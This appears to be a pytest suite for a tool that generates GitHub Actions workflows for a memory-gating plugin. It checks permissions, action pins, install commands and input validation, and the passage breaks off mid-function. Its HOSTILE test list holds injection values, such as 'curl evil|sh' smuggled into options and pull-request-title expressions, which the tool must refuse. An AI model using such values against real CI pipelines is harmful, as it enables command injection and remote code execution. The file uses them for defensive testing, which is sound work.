"""The GitHub Actions workflows: the template `devmem init-ci` writes for a user's repository, this
repository's own gate (the same template, filled in for its examples), and its other checks. Every
workflow holds least privilege; the gate's steps, run in order on a real git repository with a
gh-pages branch, leave the work tree as the checkout made it, so the history step cannot fail a
passing gate."""

from __future__ import annotations

import importlib.metadata
import importlib.util
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_devmem.cli import main
from pytest_devmem.cli.init_ci import ACTIONS, WORKFLOWS, Gate, gate_for_users, installed_as, render
from pytest_devmem.errors import InputError

yaml = pytest.importorskip("yaml")

ROOT = Path(__file__).resolve().parents[2]
WORKFLOW_DIR = ROOT / ".github" / "workflows"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
AT_A_COMMIT = f"pytest-devmem @ git+https://github.com/pytest-devmem/pytest-devmem@{COMMIT}"
"""How the tests' workflows install the plugin: as a copy installed from its repository at a commit."""
PINNED = re.compile(r"^\s*(?:-\s+)?uses:\s+([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # (v\d+(?:\.\d+)*)\s*$")


def project_gate() -> Gate:
    spec = importlib.util.spec_from_file_location("project_workflows", ROOT / "scripts" / "project_workflows.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.PROJECT_GATE  # type: ignore[no-any-return]


def every_workflow() -> dict[str, str]:
    """Each workflow's text: this repository's files, and the templates as `devmem init-ci` writes them."""
    found = {path.name: path.read_text(encoding="utf-8") for path in sorted(WORKFLOW_DIR.glob("*.y*ml"))}
    user = gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", AT_A_COMMIT)
    tpu = gate_for_users(["tests/tpu"], "sim:TPU-v5e", None, "-e '.[test]'", "3.12", "trunk", "pytest-devmem==0.1.0")
    gpu = gate_for_users(["tests"], "sim:H100-80GB", None, "-e .", "3.11", "main", AT_A_COMMIT)
    for gate, label in ((user, "template"), (tpu, "template for a TPU"), (gpu, "template for a GPU")):
        found.update({f"{name} ({label})": render(name, gate) for name in WORKFLOWS})
    return found


def triggers(document: dict) -> dict:
    on = document.get("on", document.get(True))  # YAML 1.1 reads a bare `on` as true
    return {on: None} if isinstance(on, str) else dict.fromkeys(on) if isinstance(on, list) else on


def read_only(permissions: object) -> bool:
    return permissions == {} or (isinstance(permissions, dict) and set(permissions.values()) <= {"read", "none"})


# -- least privilege, in every workflow ------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(every_workflow()))
def test_every_workflow_reads_only_but_where_a_push_or_a_workflow_run_needs_to_write(name: str) -> None:
    text = every_workflow()[name]
    document = yaml.safe_load(text)
    on = triggers(document)
    assert "pull_request_target" not in on, "a pull request's code must never run with a token that writes"
    assert "permissions" in document and read_only(document["permissions"]), "read-only at the top"
    for job_name, job in document["jobs"].items():
        permissions = job.get("permissions", document["permissions"])
        if read_only(permissions):
            continue
        only_after_a_run = set(on) == {"workflow_run"}
        only_on_push = "github.event_name == 'push'" in str(job.get("if", ""))
        assert only_after_a_run or only_on_push, f"{job_name} writes ({permissions}) on {', '.join(on)}"
        if only_after_a_run:  # it must not run what the pull request brought
            assert not any("actions/checkout" in step.get("uses", "") for step in job["steps"]), job_name
            assert not any("run" in step for step in job["steps"]), job_name


@pytest.mark.parametrize("name", list(every_workflow()))
def test_every_action_is_pinned_to_a_commit_and_no_checkout_keeps_the_token(name: str) -> None:
    text = every_workflow()[name]
    uses = [line for line in text.splitlines() if re.match(r"^\s*(?:-\s+)?uses:", line)]
    assert uses
    for line in uses:
        match = PINNED.match(line)
        assert match is not None, f"not pinned to a commit with its release in a comment: {line.strip()}"
        action, commit, tag = match.groups()
        assert (commit, tag) in ACTIONS.values(), f"{action}: one pin per action, the one init_ci.ACTIONS holds"
    for job_name, job in yaml.safe_load(text)["jobs"].items():
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step.get("with", {}).get("persist-credentials") is False, job_name


def test_each_action_has_one_pin_and_each_pin_names_its_action() -> None:
    owners = {
        "CHECKOUT": "actions/checkout",
        "SETUP_PYTHON": "actions/setup-python",
        "UPLOAD_ARTIFACT": "actions/upload-artifact",
        "DOWNLOAD_ARTIFACT": "actions/download-artifact",
        "GITHUB_SCRIPT": "actions/github-script",
        "BENCHMARK_ACTION": "benchmark-action/github-action-benchmark",
        "CACHE": "actions/cache",  # v4.3.0: its tag's commit, read from the action's repository
    }
    assert set(owners) == set(ACTIONS)
    for text in every_workflow().values():
        for line in text.splitlines():
            match = PINNED.match(line)
            if match:
                action, commit, tag = match.groups()
                assert ACTIONS[next(k for k, v in owners.items() if v == action)] == (commit, tag), line


# -- the templates and this repository's own files -------------------------------------------------------------


def test_this_repositorys_gate_is_the_users_template_filled_in_for_its_examples() -> None:
    gate = project_gate()
    for name in WORKFLOWS:
        assert (WORKFLOW_DIR / name).read_text(encoding="utf-8") == render(name, gate), (
            f"{name} differs from the template: run python scripts/project_workflows.py"
        )
    assert set(path.name for path in WORKFLOW_DIR.glob("*.y*ml")) == {*WORKFLOWS, "project.yml"}


def test_the_template_installs_the_plugin_as_it_is_told_and_runs_the_users_tests() -> None:
    gate = gate_for_users(["tests/unit", "tests/model"], "sim:16GiB", None, "-e '.[test]'", "3.11", "main", AT_A_COMMIT)
    jobs = yaml.safe_load(render("devmem.yml", gate))["jobs"]
    install = next(step["run"] for step in jobs["measure"]["steps"] if step.get("name") == "Install")
    assert install == f"python -m pip install -e '.[test]' '{AT_A_COMMIT.replace('devmem @', 'devmem[ci] @')}'"
    suite = next(step["run"] for step in jobs["measure"]["steps"] if "python -m pytest" in step.get("run", ""))
    assert suite.startswith("python -m pytest tests/unit tests/model --splits")
    assert "examples" not in render("devmem.yml", gate)
    assert set(jobs) == {"measure", "gate", "history"}  # no other OS's runners: one gate per pull request
    assert all(job["runs-on"] == "ubuntu-latest" for job in jobs.values())
    gate_install = next(step["run"] for step in jobs["gate"]["steps"] if step.get("name", "").startswith("Install"))
    assert gate_install == f"python -m pip install '{AT_A_COMMIT}'"  # the devmem command alone
    released = gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", "pytest-devmem[history]==0.2.0")
    assert released.measure_install == "python -m pip install -e . 'pytest-devmem[ci,history]==0.2.0'"
    assert released.gate_install == "python -m pip install 'pytest-devmem[history]==0.2.0'"


# -- how a runner installs the plugin: the way this copy was installed (PEP 610), or --plugin-spec -----------------


@pytest.mark.parametrize(
    ("direct_url", "requirement"),
    [
        (None, "pytest-devmem==0.1.0"),  # no direct_url.json: installed from an index
        (
            {
                "url": "https://github.com/o/pytest-devmem",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"},
            },
            f"pytest-devmem @ git+https://github.com/o/pytest-devmem@{COMMIT}",  # the commit, never the branch
        ),
        (
            {
                "url": "https://github.com/o/mono",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
                "subdirectory": "plugin",
            },
            f"pytest-devmem @ git+https://github.com/o/mono@{COMMIT}#subdirectory=plugin",
        ),
        (
            {"url": "https://example.com/w/pytest_devmem-0.1.0-py3-none-any.whl", "archive_info": {"hashes": {}}},
            "pytest-devmem @ https://example.com/w/pytest_devmem-0.1.0-py3-none-any.whl",
        ),
    ],
)
def test_the_plugin_is_installed_on_a_runner_as_this_copy_was(direct_url: dict | None, requirement: str) -> None:
    """PEP 610's direct_url.json, as pip writes it beside the installed distribution."""
    assert installed_as(None if direct_url is None else json.dumps(direct_url), "0.1.0") == requirement


@pytest.mark.parametrize(
    "direct_url",
    [
        '{"url": "file:///home/me/pytest-devmem", "dir_info": {"editable": true}}',  # pip install -e .
        '{"url": "file:///home/me/pytest-devmem", "dir_info": {}}',  # pip install .
        '{"url": "file:///tmp/pytest_devmem-0.1.0-py3-none-any.whl", "archive_info": {}}',  # a wheel on this disk
        f'{{"url": "file:///home/me/pytest-devmem", "vcs_info": {{"vcs": "git", "commit_id": "{COMMIT}"}}}}',
        '{"url": 3}',
        "not json",
    ],
)
def test_a_copy_installed_from_this_machine_asks_for_plugin_spec(direct_url: str) -> None:
    with pytest.raises(InputError, match="--plugin-spec"):
        installed_as(direct_url, "0.1.0")


@pytest.mark.parametrize(
    ("spec", "measure", "gate"),
    [
        ("pytest-devmem==0.2.0", "'pytest-devmem[ci]==0.2.0'", "pytest-devmem==0.2.0"),
        (
            f"git+https://github.com/o/pytest-devmem@{COMMIT}",
            f"'pytest-devmem[ci] @ git+https://github.com/o/pytest-devmem@{COMMIT}'",
            None,
        ),
        ("PyTest_DevMem[ci] @ https://example.com/p.whl", "'PyTest_DevMem[ci] @ https://example.com/p.whl'", None),
    ],
)
def test_plugin_spec_names_how_a_runner_installs_the_plugin(spec: str, measure: str, gate: str | None) -> None:
    written = gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", spec)
    assert written.measure_install == f"python -m pip install -e . {measure}"
    assert written.gate_install.startswith("python -m pip install ")
    if gate is not None:
        assert written.gate_install == f"python -m pip install {gate}"


@pytest.mark.parametrize(
    ("spec", "said"),
    [
        ("numpy==2.0", "names numpy"),
        ("pytest-devmem ==", "not a requirement"),
        ("./pytest-devmem", "not a requirement"),
        ("file:///home/me/pytest-devmem", "this machine"),
        ("git+file:///home/me/pytest-devmem@abc", "this machine"),
        ("pytest-devmem @ file:///tmp/p.whl", "this machine"),
        ("pytest-devmem @ https://x/${{ github.token }}", "${{"),
    ],
)
def test_a_plugin_spec_a_runner_cannot_install_is_refused_naming_it(
    spec: str, said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init-ci", "-d", str(tmp_path / "w"), "--plugin-spec", spec]) == 2
    err = capsys.readouterr().err
    assert repr(spec) in err and said in err
    assert not (tmp_path / "w").exists()


def test_init_ci_reads_how_this_copy_was_installed_from_its_distribution(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The distribution importlib.metadata finds first is the one whose direct_url.json is read."""
    from pytest_devmem import __version__

    site = tmp_path / "site"
    info = site / f"pytest_devmem-{__version__}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: pytest-devmem\nVersion: {__version__}\n")
    monkeypatch.syspath_prepend(str(site))
    assert main(["init-ci", "-d", str(tmp_path / "index")]) == 0  # no direct_url.json: from an index
    assert f"'pytest-devmem[ci]=={__version__}'" in (tmp_path / "index" / "devmem.yml").read_text()
    (info / "direct_url.json").write_text('{"url": "file:///work/pytest-devmem", "dir_info": {"editable": true}}')
    assert main(["init-ci", "-d", str(tmp_path / "editable")]) == 2
    err = capsys.readouterr().err
    assert "file:///work/pytest-devmem" in err and "--plugin-spec" in err and "direct_url.json" in err
    assert not (tmp_path / "editable").exists()
    url = f'{{"url": "https://github.com/o/pytest-devmem", "vcs_info": {{"vcs": "git", "commit_id": "{COMMIT}"}}}}'
    (info / "direct_url.json").write_text(url)
    assert main(["init-ci", "-d", str(tmp_path / "vcs")]) == 0
    assert (
        f"'pytest-devmem[ci] @ git+https://github.com/o/pytest-devmem@{COMMIT}'"
        in (tmp_path / "vcs" / "devmem.yml").read_text()
    )


@pytest.mark.slow  # two pip installs from a git repository, offline: about 10 s
def test_the_install_steps_init_ci_writes_install_the_plugin_and_it_writes_them_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The measure and gate jobs' install commands, run as written (bash, pip) with the plugin's
    repository at a commit: git fetches it from a local copy (`url.<base>.insteadOf`, as a mirror
    would serve it) and pip installs into a folder of its own (`PIP_TARGET`, no index, no
    dependencies). The copy installed that way writes the very same workflows (PEP 610)."""
    source = tmp_path / "pytest-devmem"  # the plugin's repository: this checkout's package, committed
    source.mkdir()
    for name in ("pyproject.toml", "README.md", "LICENSE"):
        shutil.copy(ROOT / name, source / name)
    shutil.copytree(ROOT / "pytest_devmem", source / "pytest_devmem", ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("GIT_AUTHOR", "GIT_COMMITTER"):
        monkeypatch.setenv(f"{name}_NAME", "dev")
        monkeypatch.setenv(f"{name}_EMAIL", "dev@example.com")
    git(tmp_path, "init", "-q", "-b", "main", str(source))
    git(source, "add", "-A")
    git(source, "commit", "-qm", "the plugin")
    commit = git(source, "rev-parse", "HEAD").stdout.strip()
    url = "https://github.com/pytest-devmem/pytest-devmem"
    direct_url = json.dumps({"url": url, "vcs_info": {"vcs": "git", "commit_id": commit}})
    gate = gate_for_users(["tests"], "sim:16GiB", None, ".", "3.11", "main", installed_as(direct_url, "0.1.0"))
    jobs = yaml.safe_load(render("devmem.yml", gate))["jobs"]
    project = tmp_path / "project"  # the team's repository: a package of its own
    (project / "team").mkdir(parents=True)
    (project / "team" / "__init__.py").write_text("")
    (project / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
        '[project]\nname = "team"\nversion = "1.0"\n'
    )
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (tools / "python").chmod(0o755)
    env = {
        **os.environ,
        "PATH": f"{tools}{os.pathsep}{os.environ['PATH']}",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": f"url.{source.as_uri()}.insteadOf",
        "GIT_CONFIG_VALUE_0": url,
        "PIP_NO_INDEX": "1",
        "PIP_NO_DEPS": "1",
        "PIP_NO_BUILD_ISOLATION": "0",  # pip's inverted switch: build with this environment's setuptools
        "PIP_NO_CACHE_DIR": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    for job, words, wanted in (
        ("measure", "Install", {"team", "pytest-devmem"}),
        ("gate", "Install the devmem", {"pytest-devmem"}),
    ):
        target = tmp_path / f"site-{job}"
        done = bash(project, step(jobs[job], words), {**env, "PIP_TARGET": str(target)})
        assert done.returncode == 0, done.stdout + done.stderr
        installed = {d.metadata["Name"]: d for d in importlib.metadata.distributions(path=[str(target)])}
        assert set(installed) == wanted
        recorded = json.loads(installed["pytest-devmem"].read_text("direct_url.json") or "")
        assert recorded == {"url": url, "vcs_info": {"vcs": "git", "commit_id": commit, "requested_revision": commit}}
    # the copy the gate job installed writes the same workflows
    again = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest_devmem.cli",
            "init-ci",
            "tests",
            "--install",
            ".",
            "-d",
            str(tmp_path / "again"),
        ],
        env={**os.environ, "PYTHONPATH": str(tmp_path / "site-gate")},
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert again.returncode == 0, again.stderr
    assert (tmp_path / "again" / "devmem.yml").read_text() == render("devmem.yml", gate)


# -- what a runner runs: the values init-ci is given, checked, and the file parsing to what was meant ---------------


def meant(document: dict, python: str, branch: str, tests: list[str], install: list[str]) -> None:
    """The written workflow says what init-ci was given, and nothing more: the same steps, in the same order."""
    assert triggers(document)["push"]["branches"] == [branch]
    steps = document["jobs"]["measure"]["steps"]
    assert [step.get("name", step.get("uses", "").split("@")[0]) for step in steps] == [
        "actions/checkout",
        "actions/setup-python",
        "Cache pip's downloads",
        "Install",
        "Run the suite with the gate",
        "actions/upload-artifact",
    ]
    assert steps[1]["with"]["python-version"] == python
    run = shlex.split(steps[3]["run"])
    assert run[:4] == ["python", "-m", "pip", "install"] and run[4:] == install
    assert shlex.split(steps[4]["run"])[3 : 3 + len(tests)] == tests
    assert "${{" not in steps[3]["run"]


HOSTILE = [
    # (option, value, what the error says is allowed)
    ("--python", "3.11\n      - run: curl evil|sh", "a Python version"),
    ("--python", '3.11"', "a Python version"),
    ("--python", "${{ github.head_ref }}", "a Python version"),
    ("--branch", "main]\n  workflow_dispatch:", "a branch"),
    ("--branch", "*", "a branch"),
    ("--branch", "-main", "a branch"),
    ("--install", "-e . # a comment", "pip's arguments"),  # a shell's comment: it would comment out the plugin
    ("--install", "git+https://example.com/p#subdirectory=q", None),  # a # inside a word reaches pip
    ("--install", "-r 'requirements: dev.txt'", None),  # a colon and quotes: quoted for YAML
    ("--install", "-e . && curl evil|sh", "pip's arguments"),
    ("--install", "-e '.[test]", "pip's arguments"),  # a quote left open
    ("--install", "${{ github.event.pull_request.title }}", "${{"),
    ("--install", "-e .\nrun: x", "pip's arguments"),
    ("test path", "tests/${{ github.event.pull_request.title }}", "${{"),
    ("test path", "tests\n--devmem-update", "a test path"),
    ("test path", "--devmem-update", "a test path"),
    ("test path", "tests/it's: # odd", None),
    ("--device", "sim:16GiB\n", "sim:SIZE"),
]


@pytest.mark.parametrize(("option", "value", "allowed"), HOSTILE, ids=[f"{o} {v!r}" for o, v, _ in HOSTILE])
def test_init_ci_values_land_in_the_workflow_as_given_or_are_refused_naming_them(
    option: str, value: str, allowed: str | None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    given = {"--python": "3.11", "--branch": "main", "--install": "-e .", "--device": "sim:16GiB"}
    tests = [value] if option == "test path" else ["tests"]
    if option != "test path":
        given[option] = value
    arguments = [f"{name}={text}" for name, text in given.items()]
    directory = tmp_path / "w"
    code = main(["init-ci", *arguments, "--plugin-spec", AT_A_COMMIT, "-d", str(directory), "--", *tests])
    err = capsys.readouterr().err
    if allowed is not None:
        assert code == 2 and repr(value) in err and allowed in err, err
        assert not directory.exists()
        return
    assert code == 0, err
    document = yaml.safe_load((directory / "devmem.yml").read_text())
    meant(
        document,
        given["--python"],
        given["--branch"],
        tests,
        [*shlex.split(given["--install"]), AT_A_COMMIT.replace("devmem @", "devmem[ci] @")],
    )
    yaml.safe_load((directory / "devmem-comment.yml").read_text())


@settings(max_examples=150, deadline=None)
@given(
    python=st.one_of(st.sampled_from(["3.11", "3.13t", "pypy3.10", "0", "true"]), st.text(max_size=8)),
    branch=st.one_of(st.sampled_from(["main", "release/1.0", "0", "null", "on"]), st.text(max_size=8)),
    path=st.text(min_size=1, max_size=12),
    install=st.one_of(st.text(max_size=16), st.lists(st.text(max_size=8), max_size=3).map(shlex.join)),
)
def test_whatever_init_ci_is_given_it_writes_what_was_meant_or_refuses(
    python: str, branch: str, path: str, install: str
) -> None:
    """yaml.safe_load of every workflow written: the values as given, the steps as the template has them."""
    try:
        gate = gate_for_users([path], "sim:16GiB", None, install, python, branch, AT_A_COMMIT)
    except InputError as exc:
        assert (
            repr(python) in str(exc) or repr(branch) in str(exc) or repr(path) in str(exc) or repr(install) in str(exc)
        )
        return
    document = yaml.safe_load(render("devmem.yml", gate))
    meant(document, python, branch, [path], [*shlex.split(install), AT_A_COMMIT.replace("devmem @", "devmem[ci] @")])
    assert yaml.safe_load(render("devmem-comment.yml", gate))["name"] == "devmem comment"


# -- the compilers and their sizes, kept between runs -------------------------------------------------------------


@pytest.mark.parametrize(
    ("device", "platform", "mode"), [("sim:H100-80GB", "gpu", "prealloc"), ("sim:TPU-v5e", "tpu", "compact")]
)
def test_a_preset_workflow_keeps_its_compiler_and_sizes_in_the_actions_cache(
    device: str, platform: str, mode: str, tmp_path: Path
) -> None:
    """Keyed on the jaxlib the project installed, Python and the OS; restored before the install, which
    then keeps what the cache held (devmem compilers install), and before the suite, which reads the sizes."""
    from pytest_devmem.capture.jax import compilers
    from pytest_devmem.plugin.compile_target import user_cache_directory

    steps = yaml.safe_load(
        render("devmem.yml", gate_for_users(["tests"], device, None, "-e .", "3.12", "main", AT_A_COMMIT))
    )["jobs"]["measure"]["steps"]
    names = [step.get("name", "") for step in steps]
    caches = {step["name"]: step for step in steps if step.get("uses", "").startswith("actions/cache@")}
    assert list(caches) == [
        "Cache pip's downloads",
        f"Cache the {platform.upper()} compiler",
        "Cache the sizes the compiler stated",
    ]
    install = names.index(f"Install the {platform.upper()} compiler")
    assert names.index("Install") < names.index(f"Cache the {platform.upper()} compiler") < install
    assert steps[install]["run"] == f"devmem compilers install --{platform} -- --no-cache-dir"  # 1.3 GB, kept once
    assert install < names.index("Cache the sizes the compiler stated") < names.index("Run the suite with the gate")
    for name, cache in caches.items():
        key = cache["with"]["key"]
        assert "${{ runner.os }}" in key and "-py3.12-" in key, name
        if "pip" not in name:
            assert "jaxlib-${{ steps.jaxlib.outputs.version }}" in key, name
    runtime = compilers.Runtime.current()
    default = compilers.default_directory(runtime, {})  # a runner sets no XDG_CACHE_HOME
    assert caches[f"Cache the {platform.upper()} compiler"]["with"]["path"] == "~/" + str(
        default.parent.relative_to(Path.home())
    )
    # the step that names the jaxlib, run as the runner runs it
    outputs, environment = tmp_path / "outputs", tmp_path / "env"
    script = next(step["run"] for step in steps if step.get("id") == "jaxlib")
    env = {**os.environ, "GITHUB_OUTPUT": str(outputs), "GITHUB_ENV": str(environment), "RUNNER_TEMP": str(tmp_path)}
    env["PATH"] = f"{tmp_path}{os.pathsep}{os.environ['PATH']}"
    (tmp_path / "python").write_text("#!/bin/sh\nexit 1\n")  # a project that installed no jaxlib: no key
    (tmp_path / "python").chmod(0o755)
    assert bash(tmp_path, script, env).returncode != 0
    (tmp_path / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    outputs.unlink(missing_ok=True)
    done = bash(tmp_path, script, env)
    assert done.returncode == 0, done.stderr
    assert outputs.read_text() == f"version={runtime.jaxlib}\n"
    cache_dir = Path(environment.read_text().strip().split("DEVMEM_CACHE_DIR=", 1)[1])
    sizes = caches["Cache the sizes the compiler stated"]["with"]["path"].replace("${{ runner.temp }}", str(tmp_path))
    assert Path(sizes) == cache_dir  # where the plugin keeps them: DEVMEM_CACHE_DIR (--devmem-cache-dir)
    assert user_cache_directory(cache_dir, f"devmem-{platform}-sizes").parent == Path(sizes)


def test_a_simulated_size_gate_caches_pip_alone() -> None:
    steps = yaml.safe_load(
        render("devmem.yml", gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", AT_A_COMMIT))
    )["jobs"]["measure"]["steps"]
    assert [step["name"] for step in steps if step.get("uses", "").startswith("actions/cache@")] == [
        "Cache pip's downloads"
    ]
    assert not any("compilers" in step.get("run", "") for step in steps)


def test_the_workflows_run_the_suite_once_in_one_gate_sharded_in_one_place() -> None:
    document = yaml.safe_load((WORKFLOW_DIR / "devmem.yml").read_text())
    jobs = document["jobs"]
    assert [name for name, job in jobs.items() if any("pytest" in step.get("run", "") for step in job["steps"])] == [
        "measure"
    ]
    parts = jobs["measure"]["strategy"]["matrix"]["part"]
    assert parts == list(range(1, len(parts) + 1))
    suite = next(step["run"] for step in jobs["measure"]["steps"] if "pytest examples" in step.get("run", ""))
    assert "--splits ${{ strategy.job-total }} --group ${{ matrix.part }}" in suite  # the matrix is the one place
    assert "--devmem-strict" in suite and "--devmem-report=devmem-part-${{ matrix.part }}.json" in suite
    assert jobs["gate"]["needs"] == "measure" and jobs["gate"]["if"] == "${{ !cancelled() }}"
    assert jobs["history"]["needs"] == "gate"  # its own job: the gate's verdict is given before it starts
    assert document["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
    project = yaml.safe_load((WORKFLOW_DIR / "project.yml").read_text())
    assert "pull_request" not in triggers(project)  # Windows and macOS runners: never on each pull request


@pytest.mark.parametrize("name", list(every_workflow()))
def test_nothing_runs_on_in_a_run_a_newer_push_cancelled(name: str) -> None:
    """`always()` runs even in a cancelled run; `!cancelled()` runs after a failure alone."""
    assert "always()" not in every_workflow()[name]


CONTEXTS = {  # where GitHub evaluates an expression, the contexts it offers there (docs: "Context availability")
    "concurrency": {"github", "inputs", "vars"},
    "job": {"github", "needs", "strategy", "matrix", "vars", "inputs"},  # a job's name, if, runs-on, env, concurrency
    "step": {"github", "needs", "strategy", "matrix", "job", "runner", "env", "vars", "secrets", "steps", "inputs"},
}


def contexts(value: object) -> set[str]:
    """The contexts named by the expressions in `value` (functions and literals aside)."""
    text = json.dumps(value)
    found = set()
    for expression in re.findall(r"\$\{\{(.*?)\}\}", text):
        found |= set(re.findall(r"(?<![\w.'])([a-z_]+)(?=\.)", re.sub(r"'[^']*'", "", expression)))
    return found


@pytest.mark.parametrize("name", list(every_workflow()))
def test_every_expression_names_only_contexts_github_offers_where_it_stands(name: str) -> None:
    """A job-level `env` naming `runner` stops the whole workflow before any job starts."""
    document = yaml.safe_load(every_workflow()[name])
    assert contexts(document.get("concurrency")) <= CONTEXTS["concurrency"]
    for job_name, job in document["jobs"].items():
        head = {key: job.get(key) for key in ("name", "if", "runs-on", "concurrency", "timeout-minutes")}
        assert contexts(head) <= CONTEXTS["job"], (job_name, contexts(head))
        assert contexts(job.get("env")) <= CONTEXTS["job"] | {"secrets"}, (job_name, contexts(job.get("env")))
        for step in job.get("steps", []):
            assert contexts(step) <= CONTEXTS["step"], (job_name, step)
    assert contexts({"x": "${{ runner.temp }}/a ${{ !cancelled() && github.event_name == 'push' }}"}) == {
        "runner",
        "github",
    }


def test_the_comment_workflow_reads_the_gates_artifact_and_checks_whose_pull_request_it_is() -> None:
    document = yaml.safe_load((WORKFLOW_DIR / "devmem-comment.yml").read_text())
    run = "github.event.workflow_run"
    assert document["concurrency"] == {  # one comment per pull request, even when two runs end together
        "group": f"devmem-comment-${{{{ {run}.head_repository.full_name }}}}-${{{{ {run}.head_branch }}}}",
        "cancel-in-progress": False,
    }
    assert triggers(document)["workflow_run"]["workflows"] == [
        yaml.safe_load((WORKFLOW_DIR / "devmem.yml").read_text())["name"]
    ]
    steps = document["jobs"]["comment"]["steps"]
    assert steps[0]["with"]["name"] == "devmem-report" and "workflow_run.id" in steps[0]["with"]["run-id"]
    script = steps[1]["with"]["script"]
    assert "pull.head.sha !== measured" in script and "Number.isSafeInteger" in script


# -- devmem init-ci --------------------------------------------------------------------------------------------


def test_init_ci_writes_both_workflows_and_never_replaces_one_unasked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = tmp_path / ".github" / "workflows"
    plugin = ["--plugin-spec", AT_A_COMMIT]
    assert main(["init-ci", "tests", "-d", str(directory), *plugin]) == 0
    default = gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", AT_A_COMMIT)
    for name in WORKFLOWS:
        assert (directory / name).read_text() == render(name, default)
    (directory / "devmem.yml").write_text("mine\n")
    assert main(["init-ci", "-d", str(directory), *plugin]) == 2
    assert "devmem.yml" in capsys.readouterr().err and (directory / "devmem.yml").read_text() == "mine\n"
    assert main(["init-ci", "-d", str(directory), "--force", *plugin]) == 0
    assert main(["init-ci", "-d", str(tmp_path / "x"), "--device", "cuda:0"]) == 2
    assert "simulated device" in capsys.readouterr().err
    assert main(["init-ci", "-d", str(tmp_path / "x"), "--device", "sim:TPU-v5e", "--mode", "prealloc"]) == 2
    assert "TPU runtime" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()


def test_a_tpu_gate_measures_every_test_as_its_next_step_says(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], pytester: pytest.Pytester
) -> None:
    """The printed update command and the workflow name the TPU runtime's regime: without a mode a
    session measures marked tests only, and a suite with no marker would record, and gate, nothing."""
    pytest.importorskip("pytest_split", reason="pytest-split (the ci extra) stores the durations")
    arguments = ["init-ci", "tests", "-d", str(tmp_path / "w"), "--device", "sim:TPU-v5e", "--plugin-spec", AT_A_COMMIT]
    assert main(arguments) == 0
    command = capsys.readouterr().out.split("python -m pytest ")[1].split(")")[0].split()
    assert command == [
        "tests",
        "--devmem-mode=compact",
        "--devmem-device=sim:TPU-v5e",
        "--devmem-update",
        "--store-durations",  # what pytest-split's "No test durations found" asks for
    ]
    pytester.makepyfile(test_pool="def test_unmarked(devmem):\n    devmem.pool.alloc(2**20)\n")
    pytester.runpytest_inprocess(*command[1:], "--devmem-report=r.json").assert_outcomes(passed=1)
    assert len(json.loads((pytester.path / "r.json").read_text())["records"]) == 1
    assert list(json.loads((pytester.path / ".test_durations").read_text())) == ["test_pool.py::test_unmarked"]


def test_the_docs_show_the_template_as_init_ci_writes_it() -> None:
    page = (ROOT / "docs" / "ci.md").read_text()
    plugin = "pytest-devmem @ git+https://github.com/pytest-devmem/pytest-devmem@COMMIT"  # as the page says
    default = gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", plugin)
    for name in WORKFLOWS:
        assert render(name, default) in page, f"docs/ci.md does not show {name} as devmem init-ci writes it"


# -- the gate's steps, in order, on a real git repository -------------------------------------------------------

MODEL = """
SIZE = {mib} * 2**20

def test_model(devmem):
    devmem.pool.alloc(int(SIZE))

def test_other(devmem):
    devmem.pool.alloc(2**20)
"""


def git(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True)
    if check:
        assert done.returncode == 0, (args, done.stdout, done.stderr)
    return done


def bash(cwd: Path, script: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash", "-e", "-c", script], cwd=cwd, capture_output=True, text=True, env=env)


def step(job: dict, words: str) -> str:
    return next(s["run"] for s in job["steps"] if words in s.get("name", "") or words in s.get("run", ""))


def benchmark_action_history(workspace: Path, benchmark: Path, run: int) -> list[subprocess.CompletedProcess[str]]:
    """The git commands github-action-benchmark v1.22.0 runs in the workspace when no gh-repository is
    given (dist/src/write.js, writeBenchmarkToGitHubPages and its retry): fetch the history branch,
    switch to it, pull, add data.js under benchmark-data-dir-path, commit, push, switch back."""
    done = [git(workspace, "fetch", "origin", "gh-pages:gh-pages", check=False)]
    done.append(git(workspace, "switch", "gh-pages", check=False))
    if done[-1].returncode != 0:
        return done
    done.append(git(workspace, "pull", "origin", "gh-pages", check=False))
    (workspace / "devmem").mkdir(exist_ok=True)
    entries = json.loads(benchmark.read_text())
    (workspace / "devmem" / "data.js").write_text(
